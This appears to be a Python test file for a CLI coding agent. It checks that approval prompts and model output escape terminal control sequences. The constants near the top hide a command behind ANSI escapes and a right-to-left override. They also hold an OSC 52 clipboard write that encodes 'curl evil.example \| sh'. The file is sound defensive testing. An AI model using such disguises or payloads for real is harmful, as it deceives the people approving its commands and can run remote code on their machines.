"""`codex-lsp exec` on a real terminal: nothing untrusted reaches it as a control sequence.

The process runs on a pseudo-terminal (stdin, stdout and stderr all on it, as in a shell), with
the terminal's own output processing off so the bytes read are exactly the bytes written. A
command hiding behind ANSI escapes, a carriage return and a right-to-left override asks for
escalation: the prompt shows every one of them by name and says that approving runs the command
outside the sandbox. A command's output and the model's answer carrying an OSC 52 clipboard
write are shown escaped; piped, the answer stays exactly what the model wrote.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.cli import run_cli, run_on_a_terminal
from tests.support.engine import make_git_repo, write_config
from tests.support.scripted_builders import function_call_response, text_response

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
# What the user would have read: "ls -la", the rest erased and reordered out of sight.
HIDDEN = "touch escaped-$(id -u)"
SPOOF = f"ls -la\r\x1b[2K\x1b[8m;{HIDDEN} #\x1b[0m\u202e\x1b]0;title\x07"
ESCAPE_BYTES = ("\x1b", "\x07", "\u202e", "\x9b")


def _setup(scripted_model, tmp_path: Path, **config: str) -> tuple[Path, Path]:
    home, ws = tmp_path / "home", make_git_repo(tmp_path / "ws", {"app.py": 'print("hi")\n'})
    write_config(home, scripted_model.base_url, **config)
    return home, ws


def test_an_escalation_prompt_shows_the_hidden_command_and_says_outside_the_sandbox(
    scripted_model, tmp_path
):
    home, ws = _setup(scripted_model, tmp_path)
    scripted_model.enqueue(
        function_call_response(
            "exec_command",
            {"cmd": f"printf '{OSC52}noisy'; exit 3", "workdir": str(ws)},
            call_id="c1",
        )
    )
    scripted_model.enqueue(
        function_call_response(
            "exec_command",
            {
                "cmd": SPOOF,
                "workdir": str(ws),
                "sandbox_permissions": "require_escalated",
                "justification": "list\x1b[1Afiles",
            },
            call_id="c2",
            response_id="resp_2",
        )
    )
    scripted_model.enqueue(text_response(f"All done.{OSC52}\u202eevil", response_id="resp_3"))

    status, screen = run_on_a_terminal(home, ["exec", "-C", str(ws), "list files"], "y\n")

    assert status == 0, screen
    for raw in ESCAPE_BYTES:
        assert raw not in screen, (raw, screen)
    # Only the line breaks the program meant: no CR rewinds a line.
    assert "\r" not in screen
    # The whole command, each control shown by name, on the one prompt line.
    prompt_line = next(line for line in screen.split("\n") if "wants to run" in line)
    assert prompt_line == (
        "The agent wants to run OUTSIDE the sandbox: ls -la\\r\\x1b[2K\\x1b[8m;"
        f"{HIDDEN} #\\x1b[0m<U+202E>\\x1b]0;title\\x07"
    )
    assert "reason: list\\x1b[1Afiles" in screen
    assert "Approving runs this command outside the sandbox" in screen
    assert "Run this command OUTSIDE the sandbox? [y]es" in screen
    # A command's output, shown because it failed, is escaped too.
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07noisy" in screen
    # So is the model's answer on a terminal.
    assert "All done.\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07<U+202E>evil" in screen
    # The approved command ran: what the user approved is what was shown.
    assert list(ws.glob("escaped-*")), screen


def test_a_sandboxed_prompt_does_not_claim_to_leave_the_sandbox(scripted_model, tmp_path):
    home, ws = _setup(scripted_model, tmp_path, approval_policy="untrusted")
    scripted_model.enqueue(
        function_call_response("exec_command", {"cmd": "touch a\nb", "workdir": str(ws)})
    )
    scripted_model.enqueue(text_response("left it", response_id="resp_2"))

    status, screen = run_on_a_terminal(home, ["exec", "-C", str(ws), "touch"], "n\n")

    assert status == 0, screen
    assert "The agent wants to run: touch a\\nb\n" in screen
    assert "Run this command? [y]es" in screen
    assert "outside the sandbox" not in screen.lower()


def test_a_piped_answer_stays_exactly_what_the_model_wrote(scripted_model, tmp_path):
    home, ws = _setup(scripted_model, tmp_path)
    answer = f"Copied.{OSC52}\u202edone\x9b"
    scripted_model.enqueue(text_response(answer))

    result = run_cli(home, "exec", "-C", str(ws), "copy it")

    assert result.returncode == 0, result.stderr
    assert result.stdout == answer + "\n"


def test_a_rerun_after_a_sandbox_denial_says_it_runs_outside_the_sandbox(scripted_model, tmp_path):
    home, ws = _setup(
        scripted_model, tmp_path, sandbox_mode="read-only", approval_policy="on-failure"
    )
    scripted_model.enqueue(
        function_call_response("exec_command", {"cmd": "touch made.txt", "workdir": str(ws)})
    )
    scripted_model.enqueue(text_response("left it", response_id="resp_2"))

    status, screen = run_on_a_terminal(home, ["exec", "-C", str(ws), "make a file"], "n\n")

    assert status == 0, screen
    assert "The agent wants to run OUTSIDE the sandbox: touch made.txt\n" in screen
    assert "Run this command OUTSIDE the sandbox? [y]es" in screen
    assert not (ws / "made.txt").exists()


def test_with_json_the_person_at_the_prompt_still_reads_the_command(scripted_model, tmp_path):
    home, ws = _setup(scripted_model, tmp_path, approval_policy="untrusted")
    command = "touch a\x1b[8m\u202eb"
    scripted_model.enqueue(
        function_call_response("exec_command", {"cmd": command, "workdir": str(ws)})
    )
    scripted_model.enqueue(text_response("left it", response_id="resp_2"))

    result = run_cli(home, "exec", "--raw-events", "-C", str(ws), "touch", stdin="n\n")

    assert result.returncode == 0, result.stderr
    # stderr, where the prompt is: the whole command, named.
    assert "The agent wants to run: touch a\\x1b[8m<U+202E>b\n" in result.stderr
    assert "Run this command? [y]es" in result.stderr
    for raw in ESCAPE_BYTES:
        assert raw not in result.stderr
    # stdout is for a program: the event as it was.
    [event] = [
        json.loads(line) for line in result.stdout.splitlines() if '"exec_approval_request"' in line
    ]
    assert event["msg"]["command"][-1] == command
